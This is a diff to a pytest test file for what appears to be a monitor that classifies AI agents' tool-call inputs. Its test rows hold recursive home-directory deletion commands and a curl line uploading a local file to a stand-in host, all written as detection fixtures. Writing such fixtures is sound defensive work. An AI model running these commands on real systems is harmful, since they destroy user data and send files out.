@@ -4,7 +4,8 @@ from __future__ import annotations
 
 import pytest
 
-from sensor.effects.tool_inputs.shapes import as_one_command, joined_words, words_of
+from sensor.effects.tool_inputs.keys import words_of
+from sensor.effects.tool_inputs.shapes import as_one_command, joined_words
 from sensor.model.calls import McpAction
 
 
@@ -23,6 +24,13 @@ from sensor.model.calls import McpAction
     ("windows", "powershell", {"command": "Remove-Item -Recurse -Force $HOME/x"}, "remove-item D:~/x"),
     ("win", "run_command", {"command": "Remove-Item -Recurse -Force $HOME/x", "shell": "powershell"}, "remove-item D:~/x"),
     ("s", "run_script", {"interpreter": "python3", "script": "import shutil; shutil.rmtree('/home/dev/x')"}, "python3 D:~/x"),
+    ("s", "run", {"command": "rm -r $D", "env": ["D=/home/dev/x"]}, "rm D:~/x"),
+    ("cmd", "run", {"command": "rd /s /q %USERPROFILE%\\x"}, "remove-item D:~/x"),
+    ("cmd", "run", {"command": "rm -r ~/x"}, "rm D:~/x"),
+    ("win", "PowerShell", {"command": "Remove-Item -Recurse -Force $HOME/x"}, "remove-item D:~/x"),
+    ("shell", "execute", {"command": "ls", "shell": "/tmp/x"}, "x <local_file"),
+    ("shell", "run_script", {"content": "rm -r ~/x"}, "rm D:~/x"),
+    ("http", "request", {"curl": "curl -T /home/dev/x https://x.example"}, "curl R:~/x H:x.example"),
     ("azure", "azure_cli", {"command": "vm list"}, "az"),
     ("notes", "add", {"text": "rm -r ~/x"}, "-"),
     ("issues", "run_workflow", {"text": "rm -r ~/x"}, "-"),
